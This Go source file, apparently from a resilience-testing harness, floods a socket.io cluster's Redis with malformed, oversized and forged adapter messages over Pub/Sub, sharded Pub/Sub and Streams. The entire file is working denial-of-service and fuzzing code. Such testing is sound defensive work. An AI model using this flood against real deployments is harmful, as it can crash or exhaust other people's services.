//go:build linux

package attack

import (
	"bufio"
	"encoding/binary"
	"fmt"
	"strings"
)

// redis publishes what no server of the cluster sends, on all channels of the
// main namespace and in its stream.
func redis(f *Field) {
	commands := redisCommands()
	f.repeat(2, func() error {
		c, err := f.dialTo(f.target.Redis, 0)
		if err != nil {
			return err
		}
		defer c.leave()
		out := bufio.NewWriterSize(c, chunk)
		const batch = 16
		for {
			for range batch {
				if _, err := out.WriteString(commands[f.next(len(commands))]); err != nil {
					return err
				}
			}
			if err := out.Flush(); err != nil {
				return err
			}
			for range batch {
				answer, err := c.r.ReadString('\n')
				if err != nil {
					return err
				}
				switch answer[0] {
				case '$': // an entry's id follows
					if _, err := c.r.ReadString('\n'); err != nil {
						return err
					}
				case '-':
					f.count(countFailed, 1)
				}
			}
			f.count("commands", batch)
		}
	})
}

// redisCommands are the commands that the attack sends, by the adapters of the
// reference: Pub/Sub, sharded Pub/Sub and Streams.
func redisCommands() (commands []string) {
	const main = "socket.io#/#"
	for _, payload := range redisPayloads() {
		for _, channel := range []string{main, main + "room#", "socket.io-request#/#", "socket.io-response#/#"} {
			commands = append(commands, command("PUBLISH", channel, payload))
		}
		commands = append(commands,
			command("SPUBLISH", main, payload), command("SPUBLISH", main+"room#", payload),
			command("XADD", "socket.io", "MAXLEN", "~", "1000", "*", "uid", "evil", "nsp", "/", "type", "3", "data", payload))
	}
	return append(commands,
		command("PUBLISH", main+strings.Repeat("#", 1000), "x"),
		command("XADD", "socket.io", "MAXLEN", "~", "1000", "*", "nsp", "/"),
		command("XADD", "socket.io", "MAXLEN", "~", "1000", "*", "uid", "evil", "nsp", "/", "type", "99999999999999999999"),
		command(append([]string{"XADD", "socket.io", "MAXLEN", "~", "1000", "*"}, strings.Fields(strings.Repeat("field value ", 10_000))...)...))
}

// redisPayloads are garbage, messages of a wrong shape, requests that ask for
// everything, answers to no request, and broadcasts to rooms without members.
func redisPayloads() []string {
	const large = 4 << 20
	var rooms strings.Builder
	for i := range 50_000 {
		fmt.Fprintf(&rooms, `"nothing%d",`, i)
	}
	many := "[" + strings.TrimSuffix(rooms.String(), ",") + "]"
	id := 0
	asks := func(form string) string { // an id of its own for each
		id++
		return fmt.Sprintf(form, id)
	}
	long := string(binary.BigEndian.AppendUint32([]byte{0xdd}, 1<<32-1))
	return []string{
		"", "\x00", "garbage", "{", "[", `{"type":`, `{"uid":1,"type":"5"}`, `{"type":-1}`, `{"uid":"evil","nsp":"/","type":3}`,
		strings.Repeat("[", large), strings.Repeat(`{"a":`, 100_000), strings.Repeat("\x91", large), strings.Repeat("\x81\xa1a", large/3), long,
		"\x93\xa4evil" + long + "\x80", "\x93\xa4evil\x83\xa4type\x02\xa4data\x91" + packedText("nothing") + "\xa3nsp\xa1/\x82\xa5rooms" + long,
		string(filler) + strings.Repeat("\xff", large),
		asks(`{"uid":"evil","requestId":"%d","type":5,"opts":{"rooms":[],"except":[]}}`),
		asks(`{"uid":"evil","requestId":"%d","type":0,"rooms":[]}`), asks(`{"uid":"evil","requestId":"%d","type":1}`),
		asks(`{"uid":"evil","requestId":"%d","type":6,"data":["nothing",{"a":[]}]}`),
		asks(`{"uid":"evil","nsp":"/","type":7,"data":{"requestId":"%d","opts":{"rooms":[],"except":[],"flags":{"timeout":1e300}}}}`),
		asks(`{"uid":"evil","nsp":"/","type":9,"data":{"requestId":"%d","packet":["nothing"]}}`),
		`{"uid":"evil","type":2,"opts":{"rooms":` + many + `,"except":` + many + `},"rooms":` + many + `}`,
		`{"uid":"evil","type":3,"opts":{"rooms":["nothing"],"except":[]},"rooms":[1,null,{}]}`,
		`{"uid":"evil","nsp":"/","type":3,"data":{"packet":{"type":2,"data":["nothing","` + strings.Repeat("x", large) + `"]},"opts":{"rooms":["nothing"],"except":[],"flags":{}}}}`,
		`{"uid":"evil","nsp":"/","type":4,"data":{"opts":{"rooms":["nothing"],"except":[]},"rooms":` + many + `}}`,
		`{"type":8,"requestId":"1","clientCount":4294967296}`, `{"type":9,"requestId":"1","packet":[]}`, `{"requestId":"1","sockets":` + many + `}`,
		`{"uid":"evil","nsp":"/","type":8,"data":{"requestId":"1","sockets":[{"id":1},null,{}]}}`,
		`{"uid":"evil","nsp":"/","type":12,"data":{"requestId":"1","packet":1}}`,
		`{"uid":"evil","nsp":"/","type":13}`, `{"uid":"evil","nsp":"/","type":1}`,
	}
}

// command encodes a command of Redis.
func command(words ...string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "*%d\r\n", len(words))
	for _, word := range words {
		fmt.Fprintf(&b, "$%d\r\n%s\r\n", len(word), word)
	}
	return b.String()
}
